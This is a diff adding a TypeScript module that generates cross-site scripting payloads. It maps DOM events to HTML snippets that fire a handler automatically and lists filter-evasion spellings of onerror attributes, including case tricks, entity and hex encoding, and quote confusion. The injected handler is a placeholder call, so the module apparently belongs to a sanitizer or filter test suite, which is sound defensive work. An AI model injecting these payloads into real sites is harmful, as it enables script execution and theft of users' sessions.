@@ -1,0 +1,50 @@
+import type {Family} from "./family.js"
+
+/// Elements on which an event happens by itself, or at the first touch; `!` is where the handler goes.
+const happens: Readonly<Record<string, string>> = {
+  load: "<body !>Bridge",
+  error: "<img src=data:, !>",
+  loadstart: "<video !><source src=data:,></video>",
+  beforeunload: "<body !>Bridge",
+  focus: "<input ! autofocus>",
+  select: "<textarea ! autofocus>Bridge</textarea>",
+  submit: "<form !><button>Send</button></form>",
+  click: "<b !>Bridge</b>",
+  mouseover: "<h1 !>Bridge</h1>",
+  touchstart: "<p !>Bridge</p>",
+  keydown: "<p tabindex=0 autofocus !>Bridge</p>",
+  dragstart: "<p draggable=true !>Bridge</p>",
+  scroll: "<p !>Bridge</p>",
+  toggle: "<details open !><summary>Bridge</summary>x</details>",
+  beforetoggle: "<p popover id=a !>Bridge</p><button popovertarget=a autofocus>Open</button>",
+  close: "<dialog open ! closedby=any>Bridge</dialog>",
+  animationstart: "<style>@keyframes a{}</style><p style=animation:a !>Bridge</p>",
+  slotchange: "<slot !><b>Bridge</b></slot>",
+  begin: "<svg><animate attributeName=x dur=1s ! /></svg>",
+  start: "<marquee !>Bridge</marquee>",
+  command: "<p id=a !>Bridge</p><button commandfor=a command=--x autofocus>Go</button>",
+}
+
+/// Handlers in attributes: one for each kind of event, then the spellings of an attribute.
+export const handlers: Family = ({run}) => [
+  ...Object.entries(happens).map(([event, html]) => html.replace("!", `on${event}=${run}`)),
+  `<img src=data:, OnErRoR=${run}>`,
+  `<img src=data:,/onerror=${run}>`,
+  `<img/src=data:,/onerror="${run}">`,
+  `<img src=data:, onerror = "${Array.from(run, char => `&#${char.charCodeAt(0)}`).join(";")};">`,
+  `<img src=data:, onerror="${Array.from(run, char => `&#x${char.charCodeAt(0).toString(16)};`).join("")}">`,
+  `<img src=data:, onerror=${run.replace("(", "&lpar;").replace(")", "&rpar;")}>`,
+  `<img src=data:, onerror="\\u0068it(${/\d+/.exec(run)![0]})">`,
+  `<img src="data:,"onerror="${run}">`,
+  `<img src=data:, "onerror=${run}" onerror=${run}>`,
+  `<img alt="\`" src=data:, onerror=${run} title="\`">`,
+  `<img src=data:, x=">" onerror=${run}>`,
+  `<img src=data:, x='>' y="'" onerror=${run}>`,
+  `<img src=data:, onerror=${run} onerror="">`,
+  `<img src=data:, =onerror=${run} onerror=${run}>`,
+  `<img src=data:, onerror=hit=${/\d+/.exec(run)![0]}>`,
+  `<img src=data:, onerror="setTimeout('${run}')">`,
+  `<img src=data:, onerror="Function\`${run.replace("(", "\\x28").replace(")", "\\x29")}\`\`\`">`,
+  `<image src=data:, onerror=${run}>`,
+  `<p onclick=${run}><p>Bridge`,
+]
